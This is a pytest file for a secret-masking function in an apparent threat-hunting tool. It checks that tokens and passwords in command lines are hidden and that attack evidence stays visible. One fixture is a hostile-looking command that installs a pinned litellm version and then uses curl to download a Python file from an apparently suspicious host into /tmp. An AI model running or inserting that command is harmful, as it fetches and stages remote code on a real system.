"""Secrets in command lines are put out; what tells of the attack stays."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customhouse.hunt.hosts.masking import masked

SECRET = "s3cr3t-V4lue.123"  # noqa: S105 - inert


@pytest.mark.parametrize(
    "text",
    [
        "npm publish --token=%s",
        "npm publish --otp 1 --auth-token %s",
        "mysql --password=%s -h db",
        "tool --api-key '%s' run",
        "curl -H 'Authorization: Bearer %s' https://a.test",
        'curl -H "authorization: Basic %s" https://a.test',
        "curl -u ada:%s https://a.test",
        "git clone https://ada:%s@git.test/x",
        "export NPM_TOKEN=%s",
        "AWS_SECRET_ACCESS_KEY=%s aws s3 ls",
        "$env:API_KEY = '%s'",
        "npm config set //registry.example/:_authToken=%s",
        'curl -d \'{"password": "%s"}\' https://a.test',
        "echo ghp_%s1234567890",
        "echo npm_%s1234567890",
    ],
)
def test_values_are_put_out(text):
    shown = masked(text % SECRET)
    assert SECRET not in shown
    assert "***" in shown


def test_what_is_no_secret_stays():
    text = "pip install litellm==1.82.8 --no-deps && curl http://sfrclak.com:8000/6202033 -o /tmp/ld.py"
    assert masked(text) == text


@given(st.text(max_size=3000))
def test_it_never_raises_and_is_bounded(text):
    assert len(masked(text, 100)) <= 101


def test_a_long_line_costs_little():
    assert len(masked("token" * 200_000)) <= 401
    assert len(masked("-" * 500_000)) <= 401
